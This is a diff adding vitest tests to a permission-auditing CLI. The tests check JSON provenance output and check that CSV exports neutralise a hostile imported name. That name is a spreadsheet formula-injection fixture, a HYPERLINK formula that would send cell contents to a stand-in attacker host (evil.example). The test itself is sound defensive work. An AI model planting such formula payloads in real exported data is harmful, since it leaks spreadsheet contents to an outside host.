@@ -3,6 +3,7 @@ import { spawnSync } from 'node:child_process';
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
+import Papa from 'papaparse';
 import { beforeAll, describe, expect, it } from 'vitest';
 
 const root = path.resolve(__dirname, '../..');
@@ -34,6 +35,7 @@ describe('permaudit import', () => {
     expect(info.files[0]).toMatchObject({ name: 'huntress-small.csv', rows: 8, size: fs.statSync(fixture).size });
     expect(info.files[0].sha256).toMatch(/^[0-9a-f]{64}$/);
     expect(info.files[0].encoding).toBe('utf-8');
+    expect(info.provenance).toMatchObject({ snapshot: { id: info.id, platform: 'huntress' }, sourceFiles: info.files, question: { kind: 'import' } });
     run('snapshots', '--db', db); // keep the db usable for the other tests
   });
 
@@ -163,6 +165,68 @@ describe('permaudit queries', () => {
     expect(perms.find((p: { label: string }) => p.label === 'View Blocking Mode')).toHaveProperty('id');
     expect(run('roles', '--platform', 'hexiosec-asm').stdout).toContain('Owner');
     expect(run('platforms').stdout).toMatch(/huntress[\s\S]*hyas-protect[\s\S]*hexiosec-asm/);
+  });
+});
+
+describe('permaudit exports', () => {
+  const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+  let hostileDb: string;
+  beforeAll(() => {
+    const file = path.join(dir, 'hostile.csv');
+    fs.writeFileSync(file, `email,name,role,account,organization\nmallory@bayside.example,"${HOSTILE.replace(/"/g, '""')}",Admin,Northwind MSP,Bayside Dental\n`);
+    hostileDb = path.join(dir, 'hostile.db');
+    expect(run('import', file, '--platform', 'huntress', '--db', hostileDb, '--name', 'Hostile').code).toBe(0);
+  });
+  const parse = (text: string) => Papa.parse<Record<string, string>>(text, { header: true, newline: '\r\n', skipEmptyLines: true }).data;
+
+  it('matrix --format csv writes a hostile name from the import so a spreadsheet shows it as text', () => {
+    const result = run('matrix', '--db', hostileDb, '--format', 'csv');
+    expect(result.code).toBe(0);
+    expect(result.stdout).not.toMatch(/(^|,)=HYPERLINK/m);
+    expect(parse(result.stdout)[0]).toMatchObject({ email: 'mallory@bayside.example', name: `'${HOSTILE}` });
+  });
+
+  it('who-can --format csv does too, citing the vendor page by title and line', () => {
+    const result = run('who-can', 'Approve Assisted Remediation', '--db', hostileDb, '--format', 'csv');
+    expect(result.code).toBe(0);
+    const [row] = parse(result.stdout);
+    expect(row).toMatchObject({ name: `'${HOSTILE}`, import_row: 'hostile.csv:2', grant_source: 'Huntress — “Setting Huntress User Permissions”, lines 63, 5, 68' });
+  });
+
+  it('who-can --json stays an array of entries; --format json wraps them with the provenance', () => {
+    const entries = JSON.parse(run('who-can', 'Approve Assisted Remediation', '--db', hostileDb, '--json').stdout);
+    expect(Array.isArray(entries)).toBe(true);
+    expect(entries[0]).toMatchObject({ email: 'mallory@bayside.example', name: HOSTILE, grantSource: [{ file: '000_96d95d6678d9722e.txt', line: 63, title: 'Setting Huntress User Permissions' }, {}, {}] });
+    const wrapped = JSON.parse(run('who-can', 'Approve Assisted Remediation', '--db', hostileDb, '--scope', 'Northwind MSP', '--format', 'json').stdout);
+    expect(wrapped.entries).toEqual(entries);
+    expect(wrapped.provenance).toMatchObject({
+      generator: { name: 'Permission Auditor' },
+      snapshot: { name: 'Hostile', platform: 'huntress', platformName: 'Huntress', modelVersion: '2022-06' },
+      sourceFiles: [{ name: 'hostile.csv', sha256: expect.stringMatching(/^[0-9a-f]{64}$/) }],
+      question: { kind: 'who-can', permission: 'remediation.approve', scope: 'Northwind MSP', channel: null },
+    });
+    expect(Date.parse(wrapped.provenance.generatedAt)).not.toBeNaN();
+    expect(wrapped.provenance.generatedAt).toMatch(/Z$/);
+    expect(run('who-can', 'View Reports', '--db', hostileDb, '--json', '--format', 'csv').code).toBe(2);
+  });
+
+  it('can, access and matrix JSON carry the provenance of their question', () => {
+    const can = JSON.parse(run('can', 'mallory@bayside.example', 'Approve Assisted Remediation', '--db', hostileDb, '--scope', 'Northwind MSP/Bayside Dental', '--channel', 'api', '--json').stdout);
+    expect(can.allowed).toBe(true);
+    expect(can.provenance.question).toEqual({ kind: 'can', permission: 'remediation.approve', scope: 'Northwind MSP/Bayside Dental', channel: 'api', email: 'mallory@bayside.example', filters: {} });
+    expect(can.reasons[0].chain.grantSource[0].title).toBe('Setting Huntress User Permissions');
+    const access = JSON.parse(run('access', 'mallory@bayside.example', '--db', hostileDb, '--json').stdout);
+    expect(access.provenance.question).toMatchObject({ kind: 'access', email: 'mallory@bayside.example' });
+    expect(access.nodes[0].node.path).toBe('Northwind MSP/Bayside Dental');
+    const matrix = JSON.parse(run('matrix', '--db', hostileDb, '--scope', 'Northwind MSP', '--format', 'json').stdout);
+    expect(matrix.provenance.question).toMatchObject({ kind: 'matrix', scope: 'Northwind MSP', channel: null });
+    expect(matrix.rows[0].email).toBe('mallory@bayside.example');
+  });
+
+  it("can's reasons cite the vendor page in one line each, within 80 columns", () => {
+    const result = run('can', 'mallory@bayside.example', 'Approve Assisted Remediation', '--db', hostileDb, '--scope', 'Northwind MSP/Bayside Dental');
+    expect(result.stdout).toContain('    per Huntress — “Setting Huntress User Permissions”, lines 63, 5, 68\n');
+    for (const line of result.stdout.trimEnd().split('\n')) expect([...line].length).toBeLessThanOrEqual(80);
   });
 });
 
